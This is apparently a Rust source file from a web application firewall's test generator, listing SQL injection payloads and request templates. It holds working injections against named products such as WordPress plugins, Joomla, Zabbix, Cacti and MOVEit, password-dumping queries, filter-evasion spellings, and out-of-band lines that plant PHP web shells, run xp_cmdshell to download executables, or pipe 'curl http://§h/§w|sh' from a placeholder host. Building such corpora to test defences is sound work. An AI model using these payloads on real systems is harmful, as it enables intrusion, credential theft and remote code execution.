//! Injection into SQL: what people type and what tools of the last fifteen years send.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload, request};
use super::super::super::encode::Encoding::{
    self, Base64, Case, Combined, Comment, DoublePercent, Hex, JsonEscape, Percent, PercentU, Plain, Whitespace,
};
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{FORM, Wire};
use super::make::{Hole, Whole, agent, cookie, form, header, json, one, other, query, whole, xml};

const SPELLINGS: &[Encoding] =
    &[Plain, Percent, DoublePercent, PercentU, Base64, JsonEscape, Hex, Comment, Case, Whitespace, Combined];
const ORDINARY: &[Encoding] = &[Plain, Percent, Plain, JsonEscape, Case];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("sqli-sort-and-limit", AttackClass::Sqli, 36, |rng| one(rng, SORTED), Place::INPUTS, SPELLINGS),
    request("sqli-wide-bytes", AttackClass::Sqli, 36, wide),
    payload("sqli-written-values", AttackClass::Sqli, 35, |rng| one(rng, WRITTEN), Place::INPUTS, ORDINARY),
    payload("sqli-dump-walks", AttackClass::Sqli, 38, |rng| one(rng, WALKS), Place::PARAMETERS, SPELLINGS),
    payload("sqli-out-of-band", AttackClass::Sqli, 36, |rng| one(rng, OUTSIDE), Place::PARAMETERS, ORDINARY),
    request("sqli-products-of-china", AttackClass::Sqli, 44, |rng| whole(rng, CHINA)),
    request("sqli-products-of-world", AttackClass::Sqli, 40, |rng| whole(rng, WORLD)),
    request("sqli-logged-headers", AttackClass::Sqli, 35, |rng| whole(rng, LOGGED)),
    payload(
        "sqli-filter-dodges",
        AttackClass::Sqli,
        40,
        |rng| one(rng, DODGES),
        Place::PARAMETERS,
        &[Plain, Percent, DoublePercent, JsonEscape],
    ),
];

/// Sort fields, LIMIT and list parameters that mappers paste without quotes.
const SORTED: &[&str] = &[
    "id,(select*from(select(sleep(§d)))§w)",
    "create_time desc,if(ascii(substr(database(),§d,1))>§n,1,(select 1 from information_schema.tables))",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,§s)),§d)",
    "10 into outfile '/var/www/html/§w.txt'-- ",
    "(case when (select substr(user_name,§d,1) from sys_user limit 1)='a' then id else create_time end)",
    "id desc limit 0,1 union select 1,§s,§n-- ",
    "updatexml(1,concat(0x7e,(select §s),0x7e),§d)",
    "name rlike (case when (1=1) then 0x§x else 0x28 end)",
    "1 and (select count(*) from sys_user where user_name like 'adm%' and §n=§n)>0",
    "dept_id in (select dept_id from sys_dept where extractvalue(1,concat(0x7e,§s)))-- §w",
    "id asc;select pg_sleep(§d)--§w",
    "1,(select top 1 name from master..sysdatabases where dbid=§d)",
    "exp(~(select*from(select §s)§w))",
    "field(id,(select group_concat(password) from sys_user where user_id=§d))",
    "1=(select 1 where §n=§n and 1=dbms_pipe.receive_message('§w',§d))",
];

/// Values of INSERT and UPDATE, and of the quotes around a search word.
const WRITTEN: &[&str] = &[
    "§w',(select password from users limit 1),'1')-- ",
    "§w' and updatexml(1,concat(0x7e,§s),1) and '1'='1",
    "§w'+(select 1 from(select sleep(§d))§w)+'",
    "x',role='admin' where username='§w'-- ",
    "§n'-(select load_file('/§f'))-'",
    "§w%' and 1=2 union select 1,user_name,password,4 from sys_user-- ",
    "§w%') or exists(select 1 from t_user where loginname='admin')#",
    "'||(select password from t_user where rownum=1)||'§w",
    "§w'),('admin§n','§x',1)-- ",
    "test'); drop table t_§w;-- ",
    "a\\' or 1=§n-- ",
    "' or extractvalue(1,concat(0x5c,(select group_concat(§w) from t_admin))) or '",
    "§w' on duplicate key update password='§x'-- ",
    "§w' returning (select version())--",
];

/// What comes after the first success: names of tables, of columns, then the rows.
const WALKS: &[&str] = &[
    "-§n union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()-- ",
    "-1' union select 1,group_concat(column_name),3,4 from information_schema.columns where table_name='t_user'#",
    "0 union all select null,concat_ws(0x3a,username,password),null from admin limit §d,1-- §w",
    "999999.9 union all select 0x31303235343830303536,0x§x,0x31303235343830303536--",
    "' and 1=(select top 1 name from sysobjects where xtype='U' and name not in ('§w'))--",
    "1 and (select count(*) from admin where len(pwd)>§d)>0",
    "1 and exists(select * from [admin]) and §n=§n",
    "1' and ascii(mid((select pass from manager limit 0,1),§d,1))=§n and 'a'='a",
    "' union select 1,2,sql,4 from sqlite_master where type='table' and name<>'§w'--",
    "' union select null,table_name,null from all_tables where owner='HIS' and rownum<§n--",
    "1') union select datname,null,null from pg_database where datname<>'§w'--",
    "1 union select 1,password_hash,3 from sys.sql_logins where name='sa' and §n=§n--",
    "-1 union select user,authentication_string,§n from mysql.user-- ",
    "1' order by §n-- ",
    "1 and (select 1 from(select count(*),concat((select §s),0x7e,floor(rand(0)*2))x from information_schema.tables group by x)§w)",
    "1' and (select db_name(§d))>0--",
    "1 and 1=cast((select username||chr(58)||password from users limit 1 offset §d) as int)",
];

/// Results that leave by another way, files and commands of the database's machine.
const OUTSIDE: &[&str] = &[
    "1' and load_file(concat('\\\\\\\\',(select hex(user())),'.§h\\\\a'))-- ",
    "-1 union select '<?php @eval($_POST[§w]);?>',2,3 into outfile '/var/www/html/up/§w.php'-- ",
    "1';exec master..xp_dirtree '\\\\§h\\§w'--",
    "1;exec master.dbo.xp_cmdshell 'certutil -urlcache -split -f http://§h/§w.exe c:\\windows\\temp\\§w.exe'--",
    "1';exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure;--§w",
    "'||utl_http.request('http://§h/'||(select user from dual))||'",
    "' and 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1)||'.§h')--",
    "'||(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % §w SYSTEM \"http://§h/\">%§w;]>'),'/l') from dual)||'",
    "1;copy (select '') to program 'curl http://§h/§w|sh'--",
    "1;create table §v(t text);copy §v from program '§c';--",
    "1;select lo_import('/§f',§n)--",
    "-1 union select 1,load_file(0x2f6574632f706173737764),§n-- ",
    "1';declare @o int;exec sp_oacreate 'wscript.shell',@o out;exec sp_oamethod @o,'run',null,'cmd /c §k'--",
    "1;set global general_log_file='/var/www/html/§w.php';set global general_log=on;select '<?php eval($_POST[1]);?>'",
    "1 union select dbms_ldap.init('§h',80) from dual--",
    "1;insert into openrowset('sqloledb','server=§h;uid=sa;pwd=§w','select 1') select name from sysdatabases--",
    "1;attach database '/var/www/html/§v.php' as §v;create table §v.a(b text);insert into §v.a values('<?php system($_GET[0]);?>')--",
];

/// Published holes of office, ERP, OA and security products sold in China.
const CHINA: &[Hole] = &[
    query("/js/hrm/getdata.jsp?cmd=getSelectAllId&sql=«select password as id from HrmResourceManager where id=§d»"),
    query("/cpt/manage/validate.jsp?sourcestring=§w&sql=«1' union select loginid from hrmresourcemanager--»"),
    form("/mobile/plugin/browser/WorkflowCenterTreeData.jsp", "formids=«1234567890))) union select NULL,value from v$parameter order by (((§n»"),
    xml("/uapws/service/nc.itf.ses.inittool.PortalSESInitToolService", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><s:getDataSourceConfig xmlns:s=\"http://inittool.ses.itf.nc/\"><arg>1' and §n=utl_inaddr.get_host_name((select user from dual))-- </arg></s:getDataSourceConfig></soapenv:Body></soapenv:Envelope>"),
    query("/yyoa/common/js/menu/test.jsp?doType=101&S1=«(SELECT MD5(§n))»"),
    query("/yyoa/ext/trafaxserver/ExtnoManage/setextno.jsp?user_ids=«(99999) union all select 1,2,(md5(§n)),4#»"),
    form("/general/system/approve_center/flow_sort/flow_sort.php", "sort_parent=«1' and (select 1 from (select sleep(§d))§w)#»"),
    form("/general/document/index.php/recv/register/insert", "title)values(«\"'^exp(if(ascii(substr(MOD(5,2),1,1))<128,1,710)))# »=§n&_SERVER="),
    cookie("/general/index.php", "Cookie: PHPSESSID=§x; _SERVER[QUERY_STRING]=id=2%20and%20@`'`%20or%20if(1,sleep(§d),§n)#"),
    query("/defaultroot/public/iWebOfficeSign/DocumentEdit_unite.jsp?RecordID=«1 union all select §n,@@version,null--»"),
    query("/sys/ui/sys_ui_component/sysUiComponent.do?method=getThemeInfo&fdId=«1' waitfor delay '0:0:§d'--»"),
    form("/K3Cloud/Kingdee.BOS.ServiceFacade.ServicesStub.Account.AccountService.GetDataCenterList.common.kdsvc", "ap0=«1';waitfor delay '0:0:§d'--§w»"),
    query("/Proxy?id=1&key=«';if(§n=§n) waitfor delay '0:0:§d'--»"),
    form("/Proxy", "cVer=9.8.0&dp=«<R9PACKET version=\"1\"><DATAFORMAT>XML</DATAFORMAT><R9FUNCTION><NAME>AS_DataRequest</NAME><PARAMS><PARAM><NAME>ProviderName</NAME><DATA format=\"text\">DataSetProviderData</DATA></PARAM><PARAM><NAME>Data</NAME><DATA format=\"text\">exec xp_cmdshell 'whoami §w'</DATA></PARAM></PARAMS></R9FUNCTION></R9PACKET>»"),
    query("/portal/pt/downCourseWare/download?pk_url=«1' and 1=dbms_pipe.receive_message('§w',§d)--»"),
    json("/jeecg-boot/jmreport/qurestSql", "{\"apiSelectId\":\"1316997232402231298\",\"id\":\"1' or '%1%' like (updatexml(0x23,concat(1,(select current_user)),§n)) or '%%' like '\"}"),
    query("/sys/user/queryUserByDepId?realname=«' or updatexml(1,concat(0x7e,user()),1) and '§w'='»"),
    query("/jeecg-boot/sys/duplicate/check?tableName=sys_user&fieldName=«(select if(substr(password,§d,1)='a',sleep(3),0) from sys_user)»&fieldVal=1000&dataId=§n"),
    form("/system/role/list", "pageNum=1&params[dataScope]=«and extractvalue(1,concat(0x7e,(select database()),0x§x))»"),
    json("/api/dbstudy/executeSql", "{\"sql\":\"select * from (select count(*),concat((select password from sys_user limit §d,1),floor(rand(0)*2))x from information_schema.tables group by x)a\"}"),
    query("/webui/?g=sys_dia_data_down&file_name=1&id=«1' union select 1,2,md5(§n)--»"),
    query("/admin.php?m=home&c=home&a=data_count&type=«1' union select username,password,§n from sys_admin#»"),
    query("/plus/recommend.php?action=&aid=1&_FILES[type][tmp_name]=«\\%27 or mid=@`\\'`/*!50000union*//*!50000select*/1,2,3,(select CONCAT(0x7c,userid,0x7c,pwd) from `#@__admin` limit 0,1),5,6,7,8,§n#@`\\'`+»&_FILES[type][name]=1.jpg&_FILES[type][type]=application/octet-stream&_FILES[type][size]=111"),
    header("/user.php?act=login", "Referer: 554fcae493e564ee0dc75bdf2ebf94caads|a:2:{s:3:\"num\";s:72:\"0,1 procedure analyse(extractvalue(rand(),concat(0x7e,version())),1)-- -\";s:2:\"id\";i:1;}§w"),
    form("/index.php?m=member&c=index&a=login", "forward=&username=phpcms&password=«123456%26username%3d%27 union select updatexml(1,concat(0x5e24,(select user()),0x§x),1)#»").spelled(DoublePercent),
    query("/api/?type=list&timezone=«1') union select 1,name,pass,4 from v9_admin where §n=§n-- »"),
    form("/faq.php?action=grouppermission", "gids[99]=«'»&gids[100][0]=«) and (select 1 from (select count(*),concat((select concat(username,0x3a,password) from cdb_members limit §d),floor(rand(0)*2))x from information_schema.tables group by x)a)#»"),
    query("/nacos/v1/cs/ops/derby?sql=«select * from users where '§w'='§w'»"),
    query("/ReportServer?op=fr_dialog&cmd=fr_remote_design&s=«sum(DB('FRDemo','select sqlite_version()||§n'))»"),
    query("/webroot/decision/view/ReportServer?test=s&n=«${sum(SQL(\"FRDemo\",\"attach database '../webapps/webroot/§v.jsp' as §v\",1,1))}»"),
];

/// Published holes of content systems, portals and appliances in use everywhere.
const WORLD: &[Hole] = &[
    form(
        "/?q=node&destination=node",
        "name[«0;update users set name='§v',pass='$S$D§t' where uid=1;# »]=§w&name[0]=§w&pass=§w&form_id=user_login_block&op=Log+in",
    ),
    query(
        "/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=«updatexml(0x23,concat(1,md5(§n)),1)»",
    ),
    query(
        "/index.php?option=com_contenthistory&view=history&list[ordering]=&item_id=1&type_id=1&list[select]=«(select 1 from (select count(*),concat((select password from #__users limit 1),floor(rand(0)*2))x from information_schema.tables group by x)§w)»",
    ),
    query(
        "/wp-admin/admin-ajax.php?action=get_question&question_id=«1 union select 1,1,char(§n),user_pass,1 from wp_users-- »",
    ),
    form(
        "/wp-admin/admin-ajax.php",
        "action=ays_sccp_results_export_file&sccp_id[]=«3) union select sleep(§d),user_login,user_pass from wp_users-- »&type=json",
    ),
    query(
        "/wp-json/wp/v2/posts/?per_page=10&orderby=«if((select substring(user_pass,§d,1) from wp_users limit 1)='P',sleep(3),0)»",
    ),
    query(
        "/jsrpc.php?type=9&method=screen.get&timestamp=§n&pageFile=history.php&profileIdx=web.item.graph&profileIdx2=«2'3297 or updatexml(1,md5(0x§x),1) or 1=»&updateProfile=true",
    ),
    query(
        "/zabbix/latest.php?output=ajax&sid=§x&favobj=toggle&toggle_open_state=1&toggle_ids[]=«15385); select * from users where (1=§n»",
    ),
    query(
        "/cacti/graph_view.php?action=tree_content&node=1-1-tree_anchor&rfilter=«aaaaa\" OR \"\"=\"((\"));select sleep(§d);-- »",
    ),
    json("/remote_agent_query", "{\"host_id\":\"1 or (select sleep(§d))-- §w\",\"poller_id\":1}"),
    query("/interface/forms/eye_mag/js/eye_base.php?providerID=«1' and extractvalue(1,concat(0x5c,version(),'§w'))='»"),
    header(
        "/moveitisapi/moveitisapi.dll?action=m2",
        "X-siLock-Test: abcdX-SILOCK-Transaction: folder_add_by_path\nX-siLock-Transaction: session_setvars\nX-siLock-SessVar0: MyPkgSelfProvisionedRecips: SQL Injection'); INSERT INTO activesessions (SessionID) values ('§x');--",
    ),
    form("/ghost/login.php", "user=«admin' or 1=§n limit 1-- -»&pass=§w"),
    query(
        "/catalog/product_frontend_action/synchronize?type_id=recently_products&ids[0][added_at]=&ids[0][product_id][from]=«?»&ids[0][product_id][to]=«))) OR (SELECT 1 UNION SELECT 2 FROM DUAL WHERE §n=§n) -- -»",
    ),
    json(
        "/ajax/api/content_infraction/getIndexableContent",
        "{\"nodeId\":{\"nodeid\":\"1 union select 1,2,3,(select concat(username,0x3a,token) from user limit §d),5-- \"}}",
    ),
    form(
        "/ajax/api/content_infraction/getIndexableContent",
        "nodeId[nodeid]=«1 UNION SELECT 26,25,24,23,22,21,20,19,20,17,16,15,14,13,12,11,10,(select version()),8,7,6,5,4,3,2,§n;-- -»",
    ),
    xml(
        "/ws/AssetService.asmx",
        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetAsset><Name>§w' UNION SELECT name,password_hash FROM sys.sql_logins--</Name></GetAsset></soap:Body></soap:Envelope>",
    ),
    json(
        "/graphql",
        "{\"query\":\"{ user(name: \\\"§w' union select 1,group_concat(login,0x3a,pass),3 from users-- -\\\") { id name } }\"}",
    ),
    json(
        "/api/v1/query",
        "{\"filter\":{\"field\":\"name\",\"op\":\"=\",\"value\":\"§w' AND 1=(SELECT COUNT(*) FROM tabname WHERE §n=§n); --\"}}",
    ),
    header(
        "/api/fabric/device/status",
        "Authorization: Bearer 1';insert/**/into/**/fabric_user.user_table(token)/**/values/**/('§w');--",
    ),
    form(
        "/cgi-bin/supportInstaller",
        "fromEmailInvite=1&customerTID=«§w' UNION SELECT 0,0,0,sessionid,0,0,0,0 FROM Sessions WHERE §n=§n--»",
    )
    .with("User-Agent: MSIE"),
    other(
        "/gql",
        "application/graphql",
        "query { search(term: \"§w') OR (SELECT 1 FROM pg_sleep(§d)) IS NULL -- \") { total } }",
    ),
];

/// Values that programs write to a log table or look a session up by.
const LOGGED: &[Hole] = &[
    header("/index.php?id=§n", "X-Forwarded-For: 127.0.0.1' and if(now()=sysdate(),sleep(§d),0) and '1'='1"),
    header("/login", "X-Forwarded-For: 10.0.0.§d',1,(select password from admin limit 1))#§w"),
    header("/", "User-Agent: Mozilla/5.0' and extractvalue(1,concat(0x7e,(select database()))) and '§w'='§w"),
    header("/news/§n.html", "Referer: http://www.boai.example/'+(select*from(select(sleep(§d)))a)+'"),
    header("/api/user/info", "X-Real-IP: 10.1.1.1'||(select case when §n=§n then pg_sleep(§d) end)||'"),
    header("/", "Client-IP: '-(if(mid(user(),§d,1)='r',sleep(3),0))-'§w\nVia: 1.1 proxy"),
    header("/member/", "Accept-Language: zh-CN') union select 1,2,group_concat(uname) from members where §n-- "),
    cookie(
        "/",
        "Cookie: TrackingId=§t' AND (SELECT SUBSTRING(password,§d,1) FROM users WHERE username='administrator')='a",
    ),
    cookie("/shop/cart", "Cookie: PHPSESSID=§x; uid=§n%20union%20select%201,username,password%20from%20admin"),
    cookie("/list.asp", "Cookie: ASPSESSIONIDQADCBRTS=§t; id=§n%20and%201=(select%20count(*)%20from%20admin)"),
    cookie("/", "Cookie: lang=zh'%3bselect+case+when+(1=1)+then+pg_sleep(§d)+end--; SESSION=§x"),
    cookie("/admin/", "Cookie: user=admin'--%20§w; pass=§w"),
    header("/api/v2/orders", "Authorization: Basic ⟨admin' or 1=§n-- :§w⟩").spelled(Base64),
    header("/oauth/userinfo", "Authorization: Bearer §x' union select 1,token,3 from oauth_access_token-- "),
    header("/upload/status", "X-File-Name: §w'; update t_user set role=1 where name='§w'-- "),
    cookie("/Home/Main", "Cookie: userInfo=⟨{\"uid\":\"§n' or '1'='1\"}⟩; JSESSIONID=§x").spelled(Base64),
];

/// Spellings against filters of words, of blanks, of quotes and of commas.
const DODGES: &[&str] = &[
    "-§n/*!50000UniOn*//*!50000SeLeCt*/1,2,/*!50000gROup_cONcat(table_name)*/ from /*!50000information_schema*/.tables-- -",
    "1e0union(select(1),(§s),(§n))",
    "1||1=(select(1)from(select(sleep(§d)))v)",
    "§w'&&(ascii(mid((database())from(§d)for(1))))&&'1",
    "-1'\nunion\u{b}select\u{c}1,2,§n#",
    "§n union select * from (select 1)a join (select §s)b join (select 3)c",
    "0'/**_**/or/**_**/(§n)like(§n)/**_**/or/**_**/'",
    "-1 uniunionon selselectect 1,passwoorrd,§n frfromom users",
    "1'='1'=(select(1)from(users)where(id)regexp(§d))='1",
    "1 and{§w updatexml(1,concat(0x7e,(select{§w table_name}from information_schema.tables limit 1)),1)}",
    "-§d' union distinctrow select 1,2,`password` from`users`-- ",
    "§n-if(locate(char(114),user())between 1 and 1,0,sleep(§d))",
    "1'-- §w\nunion-- §w\nselect-- §w\n1,2,3-- ",
    "\\Nunion(select+1,@`'`,§n)",
    ".0union select 1,(select schema_name from information_schema.schemata limit §d,1),3",
    "1;declare/**/@§v/**/varchar(99)=0x77616974666f722064656c61792027303a303a3527;exec(@§v)--",
    "1'and(select'§w'from(dual))like'%'and(1)rlike(1)#",
    "1 and 1=(select 1 from(values row(1,§n))t where hex(mid(user(),§d))<'7')",
    "(select(case(1)when(1)then(sleep(§d))else(2)end))",
    "chr(39)||(select/**/nvl(password,0)/**/from/**/users/**/where/**/rownum=§d)||chr(39)",
];

/// Quotes that a wide character swallows the backslash of: GBK sites before 2012 and their heirs.
fn wide(rng: &mut Rng) -> Whole {
    let lead = rng.pick(&["%df", "%bf", "%a1", "%81", "%e5%af", "%aa"]);
    let quote = rng.pick(&["%27", "%5c%27", "'"]);
    let more = rng.pick(&[
        "%20or%201=1%23",
        "%20union%20select%201,user(),3%23",
        "%20and%20extractvalue(1,concat(0x7e,database()))%23",
        "%20and%20sleep(5)--%20",
        "%20union%20select%201,group_concat(username,0x3a,password)%20from%20admin%23",
        "%20order%20by%208%23",
        ")%20or%20exists(select*from%20users)%23",
    ]);
    let page =
        rng.pick(&["/news_view.php?id", "/search.php?keyword", "/yiyuan/doctor.php?name", "/login.php?username"]);
    let number = rng.between(1, 9000);
    let target = format!("{page}={number}{lead}{quote}{more}");
    let (wire, place) = if rng.chance(60) {
        (Wire::get(target), Place::Query)
    } else {
        let (page, body) = target.split_once('?').expect("a query");
        (Wire::post(page, FORM, body), Place::Form)
    };
    (agent(rng, wire, place).finish(rng), place, Percent)
}
